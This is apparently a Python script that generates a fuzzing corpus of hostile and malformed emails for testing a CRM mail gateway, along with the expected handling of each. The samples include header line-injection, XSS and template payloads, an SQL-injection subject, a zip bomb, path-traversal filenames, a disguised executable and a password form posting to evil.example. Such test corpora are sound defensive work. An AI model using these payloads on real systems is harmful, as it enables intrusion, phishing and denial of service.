#!/usr/bin/env python3
"""Writes the corpus of hostile mails, and what is expected of each.

Run it after changing it: ``python3 crm_mailgateway/tests/samples/generate.py``. The
mails are committed, so that a test sees the same bytes on each machine; what is too
large for a repository is made by the tests themselves. ``expected.json`` holds, by
file name, the state that the journal ends in and whether the sender is thanked.
"""

import base64
import io
import json
import zipfile

from parts import (
    FOLDER,
    HUMAN,
    IGNORED,
    MACHINE,
    PLAIN,
    QUARANTINED,
    TEXT,
    add,
    attached,
    header,
    mail,
    multipart,
    samples,
)


def charsets():
    """Letters of all kinds, declared rightly, wrongly and not at all."""
    words = {
        "utf-8": "Grüße, Ωμέγα, 日本語, 🚲",
        "iso-8859-1": "Grüße aus Köln",
        "iso-8859-15": "Grüße für 5 €",
        "windows-1252": "„Grüße“ für 5 €",
        "windows-1251": "Здравствуйте",
        "koi8-r": "Здравствуйте",
        "iso-2022-jp": "こんにちは",
        "shift_jis": "こんにちは",
        "euc-jp": "こんにちは",
        "gb18030": "你好",
        "big5": "你好",
        "euc-kr": "안녕하세요",
        "utf-16": "Grüße",
        "utf-7": "Grüße",
    }
    for charset, text in words.items():
        mail(
            f"charset-{charset}",
            text.encode(charset),
            content_type=f"text/plain; charset={charset}",
        )
    latin = "Grüße".encode("latin-1")
    mail("charset-wrong", latin, content_type="text/plain; charset=utf-8")
    mail("charset-ascii-with-8bit", latin, content_type="text/plain; charset=us-ascii")
    mail("charset-unknown", latin, content_type="text/plain; charset=x-klingon")
    mail("charset-empty", latin, content_type='text/plain; charset=""')
    mail("charset-injection", latin, content_type='text/plain; charset="utf-8\\"; x"')
    mail("charset-none", latin, content_type="text/plain")
    mail("charset-idna", TEXT, content_type="text/plain; charset=idna")
    mail("charset-rot13", TEXT, content_type="text/plain; charset=rot13")
    mail("charset-zlib", TEXT, content_type="text/plain; charset=zlib_codec")
    mail("header-raw-utf8", Subject="Grüße 🚲".encode())
    mail("header-raw-latin1", Subject="Grüße".encode("latin-1"))
    mail("header-raw-from", From="Jörg Müller <raw@sample.example>".encode("latin-1"))
    mail("header-encoded", Subject="=?utf-8?b?R3LDvMOfZQ==?= =?iso-8859-1?q?K=F6ln?=")
    mail("header-encoded-broken", Subject="=?utf-8?b?R3L!!?= =?utf-8?q?=ZZ?= =?x?y?")
    mail("header-encoded-unknown", Subject="=?x-klingon?q?nuqneH?=")
    mail("header-encoded-truncated", Subject="=?utf-8?q?=F0=9F=9A?=")
    mail("header-surrogates", Subject=b"\xed\xa0\x80 half a pair")
    mail("header-right-to-left", Subject="\u202egpj.exe \u05e9\u05dc\u05d5\u05dd")


def line_ends():
    """Bytes that a line-based protocol does not like."""
    mail("body-empty", "")
    mail("body-blank", " \r\n\t\r\n \r\n")
    mail("body-bare-cr", "one\rtwo\rthree\r\n")
    mail("body-mixed-ends", "one\ntwo\r\nthree\rfour\n\r\n")
    mail("body-dots", ".\r\n..\r\n.dot\r\n...\r\n")
    mail("body-from-line", "From here on\r\n>From there\r\n")
    mail("body-no-final-line-end", "the end")
    mail("body-long-line", "x" * 60_000 + "\r\n")
    mail("body-null-bytes", b"one\0two\0\r\n")
    mail("body-all-bytes", bytes(b for b in range(256) if b not in (10, 13)) + b"\r\n")
    mail("body-control", "\x1b[31mred\x1b[0m \x07 \x08\r\n")
    mail("body-million-newlines", "\r\n" * 20_000)
    mail("header-null-byte", Subject=b"one\0two")
    mail("header-vertical-tab", Subject=b"one\x0btwo\x0cthree")
    add(
        "header-only-lf",
        header("header-only-lf").replace(b"\r\n", b"\n") + b"\nHi\n",
        HUMAN,
    )
    add("no-blank-line", header("no-blank-line") + TEXT.encode(), HUMAN)
    add("header-without-end", header("header-without-end")[:-2], HUMAN)
    add(
        "leading-blank-line",
        b"\r\n" + header("leading-blank-line") + b"\r\nHi\r\n",
        MACHINE,
    )
    add("no-header-at-all", b"Just some words without any header.\r\n", MACHINE)
    add("binary-garbage", bytes(range(1, 256)) * 20 + b"\r\n", MACHINE)
    add("nothing-but-blanks", b" \r\n\r\n \r\n", QUARANTINED)
    add(
        "mbox-from-line",
        b"From robin@sample.example Tue Nov 24 10:00:00 2026\r\n"
        + header("mbox-from-line")
        + b"\r\nHi\r\n",
        HUMAN,
    )


def headers():
    """Headers that are missing, doubled, absurd or a lie."""
    mail("from-missing", From=None, expected=MACHINE)
    mail("from-empty", From="", expected=MACHINE)
    mail("from-null", From="<>", expected=MACHINE)
    mail("from-no-domain", From="root", expected=MACHINE)
    mail("from-no-address", From="Robin Rider", expected=MACHINE)
    mail("from-two", From="A <one@two.example>, B <two@two.example>")
    mail("from-quoted", From='"Rider, Robin \\"the bike\\"" <quoted@sample.example>')
    mail("from-quoted-local-part", From='"robin rider"@sample.example')
    mail("from-comment", From="comment@sample.example (Robin (Rider))")
    mail("from-name-is-address", From='"boss@pedalwerk.test" <phish@sample.example>')
    mail("from-idn", From="Jörg <joerg@müller.example>".encode())
    mail("from-punycode", From="Joerg <joerg@xn--mller-kva.example>")
    mail("from-group", From="Team: a@group.example, b@group.example;")
    mail(
        "from-line-end",
        From="=?utf-8?q?Robin=0D=0ABcc:_x=40evil.example?= <lineend@sample.example>",
    )
    mail("from-very-long", From=f"{'Robin ' * 500}<long@sample.example>")
    mail("from-tab", From="Robin\tRider <tab@sample.example>")
    mail("from-upper", From="ROBIN <UPPER@SAMPLE.EXAMPLE>")
    mail("from-ip", From="Robin <robin@[192.0.2.1]>")
    mail("to-missing", To=None)
    mail("to-undisclosed", To="undisclosed-recipients:;")
    mail("to-thousand", To=", ".join(f"p{n}@many.example" for n in range(1000)))
    mail("to-broken", To="<<>>,,;@@ support@")
    mail("subject-missing", Subject=None)
    mail("subject-empty", Subject="")
    mail("subject-very-long", Subject="very " * 2000)
    mail("subject-folded", Subject="one\r\n two\r\n\tthree")
    mail("subject-line-end", Subject="=?utf-8?q?one=0D=0ABcc:_x=40evil.example?=")
    mail("subject-html", Subject="<script>alert(1)</script><b>bold</b>")
    mail(
        "subject-template", Subject="{{ 7*7 }} ${7*7} <t t-out='7*7'/> %(x)s %s %d {0}"
    )
    mail("subject-formula", Subject='=HYPERLINK("https://evil.example")')
    mail("subject-sql", Subject="'; DROP TABLE crm_case; --")
    mail("subject-percent", Subject="100 % sure, 50%s off")
    mail("date-missing", Date=None)
    mail("date-broken", Date="yesterday, after tea")
    mail("date-far-future", Date="Fri, 31 Dec 9999 23:59:59 +0000")
    mail("date-far-past", Date="Mon, 01 Jan 0001 00:00:00 +0000")
    mail("date-absurd-zone", Date="Tue, 24 Nov 2026 10:00:00 +9959")
    mail("date-two", Date="Tue, 24 Nov 2026 10:00:00 +0100\r\nDate: never")
    mail("id-missing", Message_ID=None)
    mail("id-empty", Message_ID="")
    mail("id-with-spaces", Message_ID="< id with spaces @sample.example >")
    mail("id-without-brackets", Message_ID="no-brackets@sample.example")
    mail("id-very-long", Message_ID=f"<{'x' * 5000}@sample.example>")
    mail("id-folded", Message_ID="\r\n <folded@sample.example>")
    mail("id-8bit", Message_ID="<jörg@sample.example>".encode())
    mail("id-two", Message_ID="<first@two.example>\r\nMessage-ID: <second@two.example>")
    mail("references-500", References=" ".join(f"<{n}@r.example>" for n in range(500)))
    mail("references-garbage", References="Your mail of yesterday", In_Reply_To="<<>")
    mail("received-200", Received="from a by b;\r\nReceived: " * 199 + "from a by b;")
    mail("header-no-colon", Subject="one\r\nthis line has no colon\r\nX-After: two")
    mail("header-space-before-colon", Subject="one\r\nX-Odd : two")
    mail("header-many", X_Many="\r\n".join(f"X-{n}: {n}" for n in range(1000)))
    mail("header-60kb-line", X_Long="y" * 60_000)
    mail("header-300kb", X_Long="y \r\n " * 75_000, expected=QUARANTINED)
    mail("priority-absurd", X_Priority="1 (Highest!!!)", Importance="very")
    mail("reply-to-other", Reply_To="someone-else@other.example")
    mail("content-type-garbage", content_type="this is ; not = a ;; type")
    mail("content-type-empty", content_type="", Content_Type="")
    mail("content-type-video", content_type="video/mp4")
    mail(
        "content-type-params",
        content_type="text/plain; " + "; ".join(f"p{n}=v{n}" for n in range(500)),
    )


def structure():
    """Parts that are nested, missing, endless or not what they say."""
    html = ("Content-Type: text/html; charset=utf-8", "<p>Hello <b>you</b></p>")
    multipart("mime-alternative", PLAIN, html, kind="alternative")
    multipart("mime-html-first", html, PLAIN, kind="alternative")
    multipart("mime-empty", kind="mixed")
    multipart("mime-not-closed", PLAIN, html, end=False)
    multipart(
        "mime-truncated",
        PLAIN,
        attached("Content-Type: image/png", b"x" * 999),
        end=False,
    )
    multipart("mime-no-boundary", PLAIN, Content_Type="multipart/mixed")
    multipart("mime-empty-boundary", PLAIN, Content_Type='multipart/mixed; boundary=""')
    multipart(
        "mime-other-boundary", PLAIN, Content_Type="multipart/mixed; boundary=other"
    )
    multipart("mime-unknown-kind", PLAIN, kind="bicycle")
    multipart(
        "mime-related",
        html,
        attached(
            "Content-Type: image/png\r\nContent-ID: <logo>\r\n"
            "Content-Disposition: inline"
        ),
        kind="related",
    )
    multipart("mime-300-parts", *[PLAIN] * 300)
    multipart("mime-1500-parts", *[PLAIN] * 1500, expected=QUARANTINED)
    for depth, expected in (
        (5, HUMAN),
        (40, HUMAN),
        (60, QUARANTINED),
        (2000, QUARANTINED),
    ):
        lines = "".join(
            f'Content-Type: multipart/mixed; boundary="n{n}"\r\n\r\n--n{n}\r\n'
            for n in range(depth)
        )
        name = f"mime-nested-{depth}"
        add(name, header(name) + lines.encode() + b"\r\nHello\r\n", expected)
    inner = header("inner").decode() + "\r\nThe mail that I mean\r\n"
    multipart("mime-forwarded", PLAIN, ("Content-Type: message/rfc822", inner))
    multipart("mime-forwarded-garbage", PLAIN, ("Content-Type: message/rfc822", "\0\0"))
    multipart("mime-digest", ("Content-Type: message/rfc822", inner), kind="digest")
    multipart(
        "mime-partial", PLAIN, Content_Type='message/partial; id="x"; number=1; total=3'
    )
    multipart(
        "mime-external",
        PLAIN,
        (
            "Content-Type: message/external-body; access-type=URL;"
            ' URL="https://evil.example"',
            "Content-Type: text/plain\r\n\r\n",
        ),
    )
    multipart(
        "mime-encrypted",
        ("Content-Type: application/pgp-encrypted", "Version: 1"),
        ("Content-Type: application/octet-stream", "-----BEGIN PGP MESSAGE-----"),
        kind="encrypted",
    )
    multipart(
        "mime-signed",
        PLAIN,
        ("Content-Type: application/pgp-signature", "-----BEGIN PGP SIGNATURE-----"),
        kind="signed",
    )
    mail(
        "mime-smime",
        base64.encodebytes(b"0\x80\x06\x09"),
        content_type=(
            "application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m"
        ),
    )
    for name, encoding, body in (
        ("base64-broken", "base64", "SGVsbG8!@#$%^"),
        ("base64-odd", "base64", "SGVsbG8"),
        ("base64-text", "base64", TEXT),
        ("quoted-printable-broken", "quoted-printable", "=ZZ =\r\n= =4"),
        ("encoding-unknown", "x-klingon", TEXT),
        ("encoding-uuencode", "x-uuencode", "begin 644 a\r\n#0V%T\r\n`\r\nend\r\n"),
        ("encoding-binary", "binary", b"\x00\x01\xff\r\n"),
        ("encoding-two", "base64\r\nContent-Transfer-Encoding: 7bit", "SGVsbG8="),
    ):
        mail(f"mime-{name}", body, Content_Transfer_Encoding=encoding)


def attachments():
    """Files with names and contents that one would rather not open."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr(zipfile.ZipInfo("zeros.txt"), b"\0" * 10**7, zipfile.ZIP_DEFLATED)
    files = {
        "zip-bomb": ("application/zip", "bomb.zip", archive.getvalue()),
        "winmail": ("application/ms-tnef", "winmail.dat", b"\x78\x9f\x3e\x22tnef"),
        "executable": ("application/x-msdownload", "invoice.pdf.exe", b"MZ"),
        "svg": ("image/svg+xml", "a.svg", b"<svg onload='alert(1)'/>"),
        "html": ("text/html", "a.html", b"<script>alert(1)</script>"),
        "xml-entities": (
            "application/xml",
            "a.xml",
            b'<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
        ),
        "vcard": ("text/vcard", "a.vcf", b"BEGIN:VCARD\r\nEND:VCARD\r\n"),
        "path": ("text/plain", "../../../etc/passwd", b"root"),
        "backslash": ("text/plain", "..\\\\..\\\\boot.ini", b"x"),
        "long-name": ("text/plain", "n" * 400 + ".txt", b"x"),
        "no-content": ("text/plain", "empty.txt", b""),
        "not-an-image": ("image/png", "a.png", b"this is no image"),
    }
    for name, (kind, filename, content) in files.items():
        lines = (
            f"Content-Type: {kind}\r\n"
            f'Content-Disposition: attachment; filename="{filename}"'
        )
        multipart(f"attachment-{name}", PLAIN, attached(lines, content))
    for name, disposition in {
        "no-name": "attachment",
        "name-rfc2231": "attachment; filename*=utf-8''Gr%C3%BC%C3%9Fe%20.txt",
        "name-encoded": 'attachment; filename="=?utf-8?b?R3LDvMOfZS50eHQ=?="',
        "name-raw": 'attachment; filename="Grüße.txt"',
        "name-continued": "attachment; filename*0=one; filename*1=two.txt",
        "name-broken": "attachment; filename*=klingon'x'%ZZ",
        "disposition-unknown": 'bicycle; filename="a.txt"',
    }.items():
        lines = f"Content-Type: text/plain\r\nContent-Disposition: {disposition}"
        multipart(f"attachment-{name}", PLAIN, attached(lines))
    invite = "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR\r\n"
    multipart(
        "attachment-invite",
        PLAIN,
        ("Content-Type: text/calendar; method=REQUEST", invite),
        kind="alternative",
        expected=MACHINE,
    )
    reply = "text/calendar; method=REPLY"
    mail("calendar-only", invite, MACHINE, content_type=reply)


def html_bodies():
    """HTML that wants to be run, to phone home, or to hide."""
    for name, body in {
        "script": "<script>alert(1)</script><p onclick=alert(1)>x</p>",
        "remote": '<img src="https://spy.example/p.png"><link href="//spy.example">',
        "form": '<form action="https://evil.example"><input name="password"></form>',
        "style": "<style>*{display:none}</style><p style='position:fixed'>x</p>",
        "broken": "<p><b><i>never <table><tr>closed <!-- nor this",
        "deep": "<div>" * 2000 + "x" + "</div>" * 2000,
        "empty": "<html><body></body></html>",
        "base": '<base href="https://evil.example/"><a href="x">click</a>',
        "javascript-link": '<a href="javascript:alert(1)">click</a>',
        "data-link": '<a href="data:text/html;base64,PHNjcmlwdD4=">click</a>',
        "conditional": "<!--[if mso]><p>Outlook</p><![endif]-->",
        "template": "<t t-out='7*7'/><t t-call='base.layout'/>{{ object.env }}",
        "entities": "&lt;script&gt;&#0;&#xFFFF;&#1114112;",
        "null": "<p>one\0two</p>",
        "xml": "<?xml version='1.0' encoding='utf-7'?><html><p>x</p></html>",
        "cdata": "<![CDATA[ <p>x</p> ]]>",
    }.items():
        mail(f"html-{name}", body, content_type="text/html; charset=utf-8")


def machines():
    """Mails that nobody wrote: filed, never answered."""
    for name, lines in {
        "auto-replied": {"Auto_Submitted": "auto-replied"},
        "auto-generated": {"Auto_Submitted": "auto-generated; owner=x"},
        "auto-notified": {"Auto_Submitted": "auto-notified"},
        "exchange-away": {
            "Auto_Submitted": "auto-generated",
            "X_Auto_Response_Suppress": "All",
            "Subject": "Automatic reply: away",
        },
        "gmail-vacation": {
            "Auto_Submitted": "auto-replied",
            "Precedence": "bulk",
            "X_Autoreply": "yes",
        },
        "postfix-vacation": {"Precedence": "junk", "Auto_Submitted": "auto-replied"},
        "precedence-bulk": {"Precedence": "bulk"},
        "precedence-junk": {"Precedence": "junk"},
        "precedence-list": {"Precedence": "list"},
        "precedence-auto": {"Precedence": "auto_reply"},
        "list-id": {"List_Id": "Cyclists <cyclists.lists.example>"},
        "newsletter": {"List_Unsubscribe": "<https://news.example/unsubscribe>"},
        "autoreply": {"X_Autoreply": "yes"},
        "autorespond": {"X_Autorespond": "away"},
        "auto-reply-from": {"X_Auto_Reply_From": "x@sample.example"},
        "loop": {"X_Loop": "support@pedalwerk.test"},
        "suppress": {"X_Auto_Response_Suppress": "OOF, AutoReply"},
        "no-reply": {"From": "Shop <no-reply@shop.example>"},
        "donotreply": {"From": "Shop <do.not.reply@shop.example>"},
        "noreply-tagged": {"From": "Shop <noreply+17@shop.example>"},
        "git-forge": {
            "From": "Forge <notifications-noreply@forge.example>",
            "List_Id": "project <project.forge.example>",
        },
        "monitoring": {
            "Auto_Submitted": "auto-generated",
            "From": "Nagios <nagios@monitor.example>",
        },
    }.items():
        mail(f"machine-{name}", expected=MACHINE, **lines)
    mail("human-auto-submitted-no", Auto_Submitted="no")
    mail("human-precedence-normal", Precedence="first-class")
    report = (
        "Content-Type: message/delivery-status",
        "Reporting-MTA: dns; mx.example\r\n\r\n"
        "Final-Recipient: rfc822; gone@other.example\r\nAction: failed\r\n"
        "Status: 5.1.1\r\n",
    )
    multipart(
        "bounce-report",
        PLAIN,
        report,
        kind="report; report-type=delivery-status",
        expected=IGNORED,
        From="MAILER-DAEMON@mx.example",
        Content_Type='multipart/report; report-type=delivery-status; boundary="b"',
    )
    mail(
        "bounce-daemon",
        expected=IGNORED,
        From="Mail Delivery <MAILER-DAEMON@mx.example>",
    )
    mail("bounce-empty-path", expected=MACHINE, Return_Path="<>")
    multipart(
        "receipt",
        PLAIN,
        (
            "Content-Type: message/disposition-notification",
            "Disposition: manual-action/MDN-sent-manually; displayed",
        ),
        expected=IGNORED,
        Content_Type=(
            "multipart/report; boundary=b; report-type=disposition-notification"
        ),
    )
    multipart(
        "feedback-report",
        PLAIN,
        ("Content-Type: message/feedback-report", "Feedback-Type: abuse"),
        expected=IGNORED,
        Content_Type="multipart/report; report-type=feedback-report; boundary=b",
    )


def copies():
    """Two different mails with one Message-ID: the second is kept, and says so."""
    mail("copy-first", Message_ID="<copied@sample.example>")
    mail(
        "copy-second",
        "Something else",
        Message_ID="<copied@sample.example>",
        expected=IGNORED,
    )


def main():
    """Write all samples, and remove those that are no more."""
    for build in (
        charsets,
        line_ends,
        headers,
        structure,
        attachments,
        html_bodies,
        machines,
        copies,
    ):
        build()
    for old in FOLDER.glob("*.eml"):
        if old.stem not in samples:
            old.unlink()
    for name, (content, _expected) in samples.items():
        (FOLDER / f"{name}.eml").write_bytes(content)
    expected = {name: samples[name][1] for name in sorted(samples)}
    (FOLDER / "expected.json").write_text(json.dumps(expected, indent=1) + "\n")


if __name__ == "__main__":
    main()
